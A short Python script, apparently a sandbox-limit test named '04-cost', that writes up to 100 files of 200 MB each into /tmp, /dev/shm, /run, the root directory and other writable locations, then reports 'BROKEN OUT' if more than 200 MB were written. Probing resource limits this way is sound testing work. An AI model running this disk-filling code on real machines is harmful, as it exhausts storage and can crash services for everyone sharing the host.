# notebook: 04-cost
# Fills every disk that it can write to, with one file and with many.
import os

taken = 0
for folder in ("/tmp", "/dev/shm", "/tmp/work", "/var/tmp", "/run", "/dev/mqueue", "/"):
    for number in range(100):
        try:
            with open(f"{folder}/{number}.fill", "wb", 0) as file:
                for _ in range(200):
                    taken += file.write(bytes(1_000_000))
        except OSError:
            pass
if taken > 200_000_000:
    print("BROKEN" " OUT:", taken)
